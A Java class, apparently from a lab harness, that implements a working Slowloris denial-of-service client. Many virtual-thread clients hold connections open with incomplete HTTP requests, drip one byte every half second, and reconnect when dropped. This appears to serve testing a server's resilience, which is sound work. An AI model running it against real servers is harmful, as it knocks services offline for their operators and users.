package dev.fivefold.lab.storm;

import dev.fivefold.lab.LabFailure;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.StandardSocketOptions;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Clients that send the head of a request byte by byte and never complete it, so that each occupies a connection. A client whose
 * connection is closed opens a new one. Each has a virtual thread.
 */
final class Slowloris {

    private static final byte[] BEGIN =
            "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] DRIP = {'x'};
    private static final Duration BETWEEN_DRIPS = Duration.ofMillis(500);
    private static final int CONNECT_TIMEOUT_MS = 2000;

    private final InetSocketAddress server;
    private final int clients;
    private final AtomicInteger reopened = new AtomicInteger();
    private final ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();

    /** Prepares. */
    Slowloris(InetAddress server, int port, int clients) {
        this.server = new InetSocketAddress(server, port);
        this.clients = clients;
    }

    /** Opens all connections and starts to send. */
    void start() {
        List<Socket> opened = new ArrayList<>();
        try {
            for (int i = 0; i < clients; i++) {
                opened.add(open());
            }
        } catch (IOException e) {
            opened.forEach(Slowloris::close);
            throw new LabFailure(
                    "cannot open %d connections to %s (%s): see ulimit -n".formatted(clients, server, e.getMessage()),
                    e);
        }
        opened.forEach(client -> threads.execute(() -> drip(client)));
    }

    /** The number of connections that the server has closed and a client has opened anew. */
    int reopened() {
        return reopened.get();
    }

    /** Stops, and closes all connections. */
    void stop() {
        threads.shutdownNow();
        threads.close();
    }

    private Socket open() throws IOException {
        Socket client = new Socket();
        try {
            client.setTcpNoDelay(true);
            client.setOption(StandardSocketOptions.SO_RCVBUF, 4096);
            client.connect(server, CONNECT_TIMEOUT_MS);
            client.getOutputStream().write(BEGIN);
            return client;
        } catch (IOException e) {
            client.close();
            throw e;
        }
    }

    private void drip(Socket first) {
        Socket client = first;
        try {
            while (true) {
                Thread.sleep(BETWEEN_DRIPS);
                client = dripOrReopen(client);
            }
        } catch (InterruptedException e) {
            close(client); // stopped
        }
    }

    private Socket dripOrReopen(Socket client) {
        try {
            client.getOutputStream().write(DRIP);
            return client;
        } catch (IOException e) {
            close(client);
        }
        try {
            Socket again = open();
            reopened.incrementAndGet();
            return again;
        } catch (IOException e) {
            return client; // the server accepts none for now: the next round tries again
        }
    }

    private static void close(Socket client) {
        try {
            client.close();
        } catch (IOException e) {
            // closed either way
        }
    }
}
